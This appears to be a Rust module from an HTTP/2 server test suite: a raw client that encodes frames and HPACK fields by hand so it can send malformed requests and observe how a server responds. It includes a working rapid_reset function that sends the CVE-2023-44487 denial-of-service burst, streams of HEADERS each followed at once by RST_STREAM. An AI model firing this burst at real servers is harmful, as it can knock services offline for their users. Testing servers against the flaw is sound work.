//! A raw HTTP/2 client that writes frames byte by byte, for the malformed
//! requests an HTTP/2 library refuses to send (RFC 9113 §8.1.1, §8.2).
//!
//! Over a TLS [`Endpoint`] it speaks TLS and offers ALPN `h2` (RFC 9113
//! §3.2); the preface follows the handshake.
//!
//! Field blocks are encoded with HPACK literals without indexing and without
//! Huffman coding (RFC 7541 §6.2.2), which every decoder accepts. Responses
//! are read as frames; only the `:status` of a HEADERS frame that uses
//! HPACK's static table is decoded.

use std::io::{self, Read, Write};
use std::time::{Duration, Instant};

use crate::transport::{Alpn, Endpoint, Handshake, Stream};

/// The client connection preface (RFC 9113 §3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frame types (RFC 9113 §6).
pub mod kind {
    /// DATA.
    pub const DATA: u8 = 0x0;
    /// HEADERS.
    pub const HEADERS: u8 = 0x1;
    /// RST_STREAM.
    pub const RST_STREAM: u8 = 0x3;
    /// SETTINGS.
    pub const SETTINGS: u8 = 0x4;
    /// PING.
    pub const PING: u8 = 0x6;
    /// GOAWAY.
    pub const GOAWAY: u8 = 0x7;
    /// WINDOW_UPDATE.
    pub const WINDOW_UPDATE: u8 = 0x8;
}

/// The flag END_STREAM (RFC 9113 §6.1).
pub const END_STREAM: u8 = 0x1;
/// The flag END_HEADERS (RFC 9113 §6.2).
pub const END_HEADERS: u8 = 0x4;
/// The flag ACK of SETTINGS and PING.
pub const ACK: u8 = 0x1;
/// The error code PROTOCOL_ERROR (RFC 9113 §7).
pub const PROTOCOL_ERROR: u32 = 0x1;
/// The error code CANCEL (RFC 9113 §7).
pub const CANCEL: u32 = 0x8;
/// The error code ENHANCE_YOUR_CALM (RFC 9113 §7).
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

/// One frame's bytes: the 9-byte header (RFC 9113 §4.1) and `payload`.
pub fn frame_bytes(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut frame = Vec::with_capacity(9 + payload.len());
    frame.extend_from_slice(&length.to_be_bytes()[1..]);
    frame.push(kind);
    frame.push(flags);
    frame.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// A field block of `fields` in order (HPACK literals without indexing,
/// without Huffman coding).
pub fn field_block(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0x00);
        encode_string(&mut block, name.as_bytes());
        encode_string(&mut block, value.as_bytes());
    }
    block
}

/// One frame as received.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    /// The frame type.
    pub kind: u8,
    /// The flags.
    pub flags: u8,
    /// The stream id.
    pub stream: u32,
    /// The payload.
    pub payload: Vec<u8>,
}

/// What the server did with a stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StreamOutcome {
    /// It answered with a HEADERS frame; the status when it could be
    /// decoded from HPACK's static table.
    Response(Option<u16>),
    /// It reset the stream with this error code.
    Reset(u32),
    /// It closed the connection with GOAWAY and this error code.
    GoAway(u32),
    /// The connection ended without either.
    Closed,
}

/// A raw HTTP/2 connection.
#[derive(Debug)]
pub struct RawConnection {
    stream: Stream,
    scheme: &'static str,
}

impl RawConnection {
    /// Connects (over TLS: with ALPN `h2`, once the handshake is done),
    /// sends the preface and an empty SETTINGS frame.
    ///
    /// # Errors
    ///
    /// The connect, handshake or write error.
    pub fn open(endpoint: impl Into<Endpoint>) -> io::Result<Self> {
        RawConnection::connect(endpoint.into(), Some(Alpn::H2))
    }

    /// As [`open`](RawConnection::open), but over TLS without ALPN: the
    /// server must tell HTTP/2 by its preface, as over TCP (spec TLS-2).
    /// Over TCP the same as `open`.
    ///
    /// # Errors
    ///
    /// The connect, handshake or write error.
    pub fn open_without_alpn(endpoint: impl Into<Endpoint>) -> io::Result<Self> {
        RawConnection::connect(endpoint.into(), None)
    }

    fn connect(endpoint: Endpoint, alpn: Option<Alpn>) -> io::Result<Self> {
        let stream = Stream::connect(endpoint, alpn, Handshake::Complete)?;
        let mut connection = RawConnection {
            stream,
            scheme: endpoint.scheme(),
        };
        connection.stream.write_all(PREFACE)?;
        connection.write_frame(kind::SETTINGS, 0, 0, &[])?;
        Ok(connection)
    }

    /// The `:scheme` of requests on this connection: `"https"` over TLS,
    /// `"http"` otherwise.
    pub fn scheme(&self) -> &'static str {
        self.scheme
    }

    /// Writes one frame.
    ///
    /// # Errors
    ///
    /// The write error.
    pub fn write_frame(
        &mut self,
        kind: u8,
        flags: u8,
        stream: u32,
        payload: &[u8],
    ) -> io::Result<()> {
        self.write_raw(&frame_bytes(kind, flags, stream, payload))
    }

    /// Writes `bytes` (frames made with [`frame_bytes`]) in one write.
    ///
    /// # Errors
    ///
    /// The write error.
    pub fn write_raw(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.stream.write_all(bytes)?;
        self.stream.flush()
    }

    /// A rapid-reset burst (CVE-2023-44487) in one write: `count` streams
    /// from `first` (odd ids, two apart), each a GET for `path` whose
    /// HEADERS frame is followed at once by RST_STREAM with CANCEL.
    /// Returns the last stream id.
    ///
    /// # Errors
    ///
    /// The write error.
    pub fn rapid_reset(
        &mut self,
        first: u32,
        count: u32,
        authority: &str,
        path: &str,
    ) -> io::Result<u32> {
        let block = field_block(&[
            (":method", "GET"),
            (":scheme", self.scheme),
            (":authority", authority),
            (":path", path),
        ]);
        let mut bytes = Vec::new();
        let mut stream = first;
        for i in 0..count {
            stream = first + 2 * i;
            bytes.extend(frame_bytes(
                kind::HEADERS,
                END_HEADERS | END_STREAM,
                stream,
                &block,
            ));
            bytes.extend(frame_bytes(
                kind::RST_STREAM,
                0,
                stream,
                &CANCEL.to_be_bytes(),
            ));
        }
        self.write_raw(&bytes)?;
        Ok(stream)
    }

    /// Sets the read timeout of the underlying connection.
    ///
    /// # Errors
    ///
    /// The socket's error.
    pub fn set_read_timeout(&mut self, timeout: Option<Duration>) -> io::Result<()> {
        self.stream.set_read_timeout(timeout)
    }

    /// Sends a HEADERS frame with END_HEADERS (and END_STREAM when
    /// `end_stream`) carrying `fields` in order, pseudo-fields included.
    ///
    /// # Errors
    ///
    /// The write error.
    pub fn send_headers(
        &mut self,
        stream: u32,
        fields: &[(&str, &str)],
        end_stream: bool,
    ) -> io::Result<()> {
        let block = field_block(fields);
        let flags = END_HEADERS | if end_stream { END_STREAM } else { 0 };
        self.write_frame(kind::HEADERS, flags, stream, &block)
    }

    /// Sends a GET for `path` on `stream` with `extra` fields after the
    /// pseudo-fields, as one HEADERS frame with END_STREAM.
    ///
    /// # Errors
    ///
    /// The write error.
    pub fn send_get(
        &mut self,
        stream: u32,
        authority: &str,
        path: &str,
        extra: &[(&str, &str)],
    ) -> io::Result<()> {
        let mut fields = vec![
            (":method", "GET"),
            (":scheme", self.scheme),
            (":authority", authority),
            (":path", path),
        ];
        fields.extend_from_slice(extra);
        self.send_headers(stream, &fields, true)
    }

    /// Sends a DATA frame.
    ///
    /// # Errors
    ///
    /// The write error.
    pub fn send_data(&mut self, stream: u32, data: &[u8], end_stream: bool) -> io::Result<()> {
        self.write_frame(
            kind::DATA,
            if end_stream { END_STREAM } else { 0 },
            stream,
            data,
        )
    }

    /// Reads one frame; `Ok(None)` when the connection ended.
    ///
    /// # Errors
    ///
    /// The read error (a timeout among them).
    pub fn read_frame(&mut self) -> io::Result<Option<Frame>> {
        let mut header = [0u8; 9];
        if let Err(error) = self.stream.read_exact(&mut header) {
            return match error.kind() {
                io::ErrorKind::UnexpectedEof | io::ErrorKind::ConnectionReset => Ok(None),
                _ => Err(error),
            };
        }
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
        let mut payload = vec![0u8; length];
        if let Err(error) = self.stream.read_exact(&mut payload) {
            return match error.kind() {
                io::ErrorKind::UnexpectedEof | io::ErrorKind::ConnectionReset => Ok(None),
                _ => Err(error),
            };
        }
        Ok(Some(Frame {
            kind: header[3],
            flags: header[4],
            stream: u32::from_be_bytes([header[5], header[6], header[7], header[8]]) & 0x7fff_ffff,
            payload,
        }))
    }

    /// Reads frames, acknowledging SETTINGS and PING, until the server
    /// answers, resets or gives up on `stream`, or `wait` passes.
    ///
    /// # Errors
    ///
    /// A read or write error, or `TimedOut`.
    pub fn outcome(&mut self, stream: u32, wait: Duration) -> io::Result<StreamOutcome> {
        let deadline = Instant::now() + wait;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Err(io::Error::new(
                    io::ErrorKind::TimedOut,
                    "no answer on the stream",
                ));
            }
            self.stream.set_read_timeout(Some(left))?;
            let Some(frame) = self.read_frame()? else {
                return Ok(StreamOutcome::Closed);
            };
            match frame.kind {
                kind::SETTINGS if frame.flags & ACK == 0 => {
                    self.write_frame(kind::SETTINGS, ACK, 0, &[])?
                }
                kind::PING if frame.flags & ACK == 0 => {
                    self.write_frame(kind::PING, ACK, 0, &frame.payload)?;
                }
                kind::RST_STREAM if frame.stream == stream => {
                    return Ok(StreamOutcome::Reset(error_code(&frame.payload, 0)));
                }
                kind::GOAWAY => return Ok(StreamOutcome::GoAway(error_code(&frame.payload, 4))),
                kind::HEADERS if frame.stream == stream => {
                    return Ok(StreamOutcome::Response(static_status(&frame)));
                }
                _ => {}
            }
        }
    }
}

/// How a connection ended, from [`RawConnection::until_closed`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Ending {
    /// Whether the server closed the connection within the wait.
    pub closed: bool,
    /// The error code of the first GOAWAY the server sent, if any.
    pub goaway: Option<u32>,
    /// The PINGs (not acknowledgements) the server sent.
    pub pings: usize,
    /// How long after the call the connection ended.
    pub after: Duration,
}

impl RawConnection {
    /// Reads frames until the server closes the connection or `wait`
    /// passes, acknowledging SETTINGS and, if `answer_pings`, PINGs.
    ///
    /// # Errors
    ///
    /// A read error other than a timeout.
    pub fn until_closed(&mut self, wait: Duration, answer_pings: bool) -> io::Result<Ending> {
        let started = Instant::now();
        let deadline = started + wait;
        let (mut goaway, mut pings) = (None, 0);
        let closed = loop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                break false;
            }
            self.stream.set_read_timeout(Some(left))?;
            let frame = match self.read_frame() {
                Ok(Some(frame)) => frame,
                Ok(None) => break true,
                Err(error) if error.kind() == io::ErrorKind::BrokenPipe => break true,
                Err(error)
                    if matches!(
                        error.kind(),
                        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                    ) =>
                {
                    break false
                }
                Err(error) => return Err(error),
            };
            match frame.kind {
                kind::SETTINGS if frame.flags & ACK == 0 => {
                    // The server may have closed already.
                    let _ = self.write_frame(kind::SETTINGS, ACK, 0, &[]);
                }
                kind::PING if frame.flags & ACK == 0 => {
                    pings += 1;
                    if answer_pings {
                        let _ = self.write_frame(kind::PING, ACK, 0, &frame.payload);
                    }
                }
                kind::GOAWAY if goaway.is_none() => goaway = Some(error_code(&frame.payload, 4)),
                _ => {}
            }
        };
        Ok(Ending {
            closed,
            goaway,
            pings,
            after: started.elapsed(),
        })
    }
}

fn error_code(payload: &[u8], offset: usize) -> u32 {
    payload
        .get(offset..offset + 4)
        .map_or(u32::MAX, |b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
}

/// The `:status` of a HEADERS frame whose first field is an indexed
/// `:status` of HPACK's static table (RFC 7541 Appendix A).
fn static_status(frame: &Frame) -> Option<u16> {
    let mut block = frame.payload.as_slice();
    if frame.flags & 0x8 != 0 {
        // PADDED: skip the pad length.
        block = block.get(1..)?;
    }
    if frame.flags & 0x20 != 0 {
        // PRIORITY: skip the dependency and weight.
        block = block.get(5..)?;
    }
    match block.first()? {
        0x88 => Some(200),
        0x89 => Some(204),
        0x8a => Some(206),
        0x8b => Some(304),
        0x8c => Some(400),
        0x8d => Some(404),
        0x8e => Some(500),
        // A literal with the static table's `:status` name (index 8), with
        // or without indexing (RFC 7541 §6.2): `408`, say.
        0x48 | 0x08 | 0x18 => literal_status(block.get(1..)?),
        _ => None,
    }
}

/// A three-digit status from an HPACK string literal, raw or
/// Huffman-coded (RFC 7541 §5.2, Appendix B: the digits' codes only).
fn literal_status(string: &[u8]) -> Option<u16> {
    let (&first, rest) = string.split_first()?;
    let length = usize::from(first & 0x7f);
    let bytes = rest.get(..length)?;
    let digits = if first & 0x80 == 0 {
        std::str::from_utf8(bytes).ok()?.to_owned()
    } else {
        let mut bits = bytes
            .iter()
            .flat_map(|byte| (0..8).rev().map(move |i| (byte >> i) & 1));
        let mut digits = String::new();
        while digits.len() < 3 {
            let mut code = 0u8;
            for _ in 0..5 {
                code = code << 1 | bits.next()?;
            }
            // 00000, 00001, 00010: 0 to 2; 011001 to 011111: 3 to 9.
            let digit = match code {
                0..=2 => code,
                0b01100..=0b01111 => {
                    let code = code << 1 | bits.next()?;
                    code.checked_sub(0b011001)? + 3
                }
                _ => return None,
            };
            digits.push(char::from(b'0' + digit));
        }
        digits
    };
    digits.parse().ok()
}

/// An HPACK string literal without Huffman coding (RFC 7541 §5.2).
fn encode_string(out: &mut Vec<u8>, bytes: &[u8]) {
    encode_integer(out, bytes.len(), 7, 0x00);
    out.extend_from_slice(bytes);
}

/// An HPACK integer with an N-bit prefix (RFC 7541 §5.1).
fn encode_integer(out: &mut Vec<u8>, value: usize, prefix: u8, first: u8) {
    let max = (1usize << prefix) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_statuses() {
        assert_eq!(literal_status(b"\x03408"), Some(408));
        // "408" Huffman-coded: 011010 00000 011110, padded with ones.
        assert_eq!(
            literal_status(&[0x83, 0b0110_1000, 0b0000_1111, 0b0111_1111]),
            Some(408)
        );
    }

    #[test]
    fn hpack_integers() {
        let mut out = Vec::new();
        encode_integer(&mut out, 10, 5, 0);
        assert_eq!(out, [10]);
        out.clear();
        encode_integer(&mut out, 1337, 5, 0);
        assert_eq!(out, [31, 154, 10]);
    }
}
